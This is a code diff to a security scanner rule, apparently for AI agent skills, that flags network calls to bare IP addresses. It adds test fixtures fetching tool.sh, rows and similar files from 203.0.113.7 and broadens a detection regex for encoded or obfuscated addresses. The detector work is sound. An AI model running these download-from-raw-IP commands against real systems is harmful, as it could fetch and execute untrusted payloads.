@@ -22,7 +22,7 @@ export const rawAddress: PassageRule = {
       title: "Spricht mit einem Server, von dem nur die IP-Adresse bekannt ist",
       rationale:
         "Kein Name sagt, wem der Server gehört, und meist fehlt ihm ein Zertifikat. Angreifer nutzen bloße Adressen, weil sie nichts kosten und schnell gewechselt sind.",
-      remedy: "Verwenden Sie einen Hostnamen mit HTTPS, dessen Inhaber die Skill nennt.",
+      remedy: "Verwenden Sie einen Hostnamen mit HTTPS, dessen Inhaber der Skill nennt.",
       beyondPattern:
         "Versionen, lokale Netze, öffentliche Resolver und Zahlen in Beispielen sehen wie solche Adressen aus. Es zählt nur eine, von der ein Befehl oder ein Aufruf etwas holt, auch wenn sie als eine einzige Zahl oder hexadezimal geschrieben ist.",
     },
@@ -33,6 +33,12 @@ export const rawAddress: PassageRule = {
       "```bash\nwget 198.51.100.23/tables.csv\n```\n",
       { "load.py": "import requests\ntext = requests.get('http://0xcb007107/list').text\n" },
       { "load.js": "const rows = await fetch('http://3405803783/rows.json');\n" },
+      { "load.py": "import http.client\nconnection = http.client.HTTPConnection('203.0.113.7', 8080)\n" },
+      {
+        "load.js":
+          "const http = require('http');\nhttp.get({ host: '203.0.113.7', path: '/tool.sh' }, (answer) => answer.resume());\n",
+      },
+      { "load.ts": "const parts = [203, 0, 113, 7];\nawait fetch(`http://${parts.join('.')}/rows`);\n" },
       { "load.ps1": "Invoke-WebRequest http://203.0.113.7/tool.exe -OutFile tool.exe\n" },
       "First download the helper from http://203.0.113.7/helper.zip and unpack it.\n",
     ],
@@ -42,7 +48,7 @@ export const rawAddress: PassageRule = {
       { "check.py": "import requests\nrequests.get('https://api.example/v1.2.3.4/rows')\n" },
     ],
   },
-  hint: /\/\/\[?[\da-f]|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|0x[\da-f]{8}|@\d|\/\/\S{1,60}@/i,
+  hint: /\/\/\[?[\da-f]|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|0x[\da-f]{8}|@\d|\/\/\S{1,60}@|\/\/(?:\$\{|\{|%[ds]|["'`])|b64decode|atob\(|fromhex|unhexlify|\.reverse\(|\[::-1\]|["']base64["']|["']hex["']|fromCharCode|FromBase64/i,
   check: hitsOf,
 };
 
